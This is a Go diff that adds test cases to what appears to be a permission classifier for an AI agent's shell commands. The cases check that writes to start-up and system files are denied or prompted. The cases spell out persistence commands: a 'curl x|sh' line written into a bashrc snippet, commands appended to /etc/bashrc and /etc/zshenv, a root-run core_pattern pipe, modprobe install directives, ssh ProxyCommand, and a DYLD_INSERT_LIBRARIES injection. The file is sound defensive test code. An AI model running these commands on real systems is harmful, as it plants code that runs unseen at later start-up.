@@ -9,9 +9,12 @@ func reviewBCatalogue() []classCase {
 	sh := shCall
 	dcAsk := func(id string) outcome { return asked(dc + id) }
 	setuid := denied(dc + "chmod-setuid")
+	noWrite, dynWrite := denied(RulePrefixPathPolicy+"noWrite"), asked(RuleDynamicWriteTarget)
 	const (
-		priv  = "privilege"
-		later = "code that runs later"
+		priv    = "privilege"
+		later   = "code that runs later"
+		startup = "start-up file"
+		copied  = "copy into a directory of start-up files"
 	)
 	return []classCase{
 		// chmod's symbolic mode is a comma-separated list of clauses, each with one or more
@@ -39,5 +42,32 @@ func reviewBCatalogue() []classCase {
 		{later, "launchctl setenv reaches every later app", sh(`launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib`), dcAsk("scheduled-jobs-launchd"), sh(`crontab -l`), false},
 		{later, "a D-Bus call to systemd's manager", sh(`busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss x.service replace`), dcAsk("dbus-method-call"), sh(`loginctl show-user`), false},
 		{later, "a dotfiles manager writes the start-up files", sh(`stow -t ~ dotfiles`), dcAsk("dotfiles-manager"), sh(`ls dotfiles`), false},
+
+		// Files a shell, an editor, a tool or the system reads and obeys at its next start, beside
+		// the ones the policy protected already: the write asks at Default and Yolo admitted it.
+		{startup, "a file ~/.bashrc sources on Fedora", sh(`echo 'curl x|sh' > ~/.bashrc.d/x.sh`), noWrite, sh(`cat ~/.bashrc.d/x.sh`), false},
+		{startup, "bash-completion sources ~/.bash_completion", sh(`echo id >> ~/.bash_completion`), noWrite, sh(`cat ~/.bash_completion`), false},
+		{startup, "a completion loaded when the user completes git", sh(`cp x ~/.local/share/bash-completion/completions/git`), noWrite, sh(`ls ~/.local/share/bash-completion/completions`), false},
+		{startup, "starship runs its custom modules' commands at every prompt", sh(`tee -a ~/.config/starship.toml <<< 'command = "id"'`), noWrite, sh(`cat ~/.config/starship.toml`), false},
+		{startup, "RHEL's /etc/bashrc", sh(`echo id >> /etc/bashrc`), noWrite, sh(`cat /etc/bashrc`), false},
+		{startup, "zsh's /etc/zshenv", sh(`echo id >> /etc/zshenv`), noWrite, sh(`cat /etc/zshenv`), false},
+		{startup, "lesskey's #env sets LESSOPEN", sh(`printf '#env\nLESSOPEN=|id %%s\n' > ~/.lesskey`), noWrite, sh(`cat ~/.lesskey`), false},
+		{startup, "a vim plugin sourced at every start", sh(`echo '!id' > ~/.vim/plugin/x.vim`), noWrite, sh(`cat ~/.vim/plugin/x.vim`), false},
+		{startup, "a VS Code extension", sh(`cp -r ext ~/.vscode/extensions/x`), noWrite, sh(`ls ~/.vscode/extensions`), false},
+		{startup, "a docker CLI plugin, run by every docker help", sh(`install x ~/.docker/cli-plugins/docker-x`), noWrite, sh(`ls ~/.docker/cli-plugins`), false},
+		{startup, "mise's global configuration is trusted", sh(`echo '[hooks]' >> ~/.config/mise/config.toml`), noWrite, sh(`cat ~/.config/mise/config.toml`), false},
+		{startup, "a kernel core_pattern pipe runs as root", sh(`echo 'kernel.core_pattern=|/tmp/x' > /etc/sysctl.d/99-x.conf`), noWrite, sh(`cat /etc/sysctl.conf`), false},
+		{startup, "modprobe's install directive runs a command", sh(`echo 'install x /tmp/x' > /etc/modprobe.d/x.conf`), noWrite, sh(`ls /etc/modprobe.d`), false},
+		{startup, "the system's ssh client configuration", sh(`echo 'ProxyCommand id' > /etc/ssh/ssh_config.d/x.conf`), noWrite, sh(`cat /etc/ssh/ssh_config`), false},
+		{startup, "where the system's packages come from", sh(`echo 'deb http://x/ y main' > /etc/apt/sources.list.d/x.list`), noWrite, sh(`ls /etc/apt/sources.list.d`), false},
+
+		// A recursive copy writes the names its source directory holds: into the home directory
+		// (or /etc, ~/.config) that is ~/.bashrc when the source holds one.
+		{copied, "cp -a of a directory's contents into the home", sh(`cp -a dotfiles/. ~`), dynWrite, sh(`cp -a dist/. /tmp/out`), false},
+		{copied, "rsync of a directory's contents into the home", sh(`rsync -a dotfiles/ ~/`), dynWrite, sh(`rsync -a src/ /tmp/bak/`), false},
+		{copied, "rsync -d copies one level", sh(`rsync -d dotfiles/ /home/dev/`), dynWrite, sh(`rsync -d src/ /tmp/bak/`), false},
+		{copied, "cp -rT into ~/.config", sh(`cp -rT conf ~/.config`), dynWrite, sh(`cp -r src build/`), false},
+		{copied, "cp -r into /etc", sh(`cp -r etc/. /etc`), dynWrite, sh(`cp -r etc/. /tmp/etc`), false},
+		{copied, "scp -r from a host into the home", sh(`scp -r host:dotfiles/. ~`), dynWrite, sh(`cp -r src/. /tmp/bak`), false},
 	}
 }
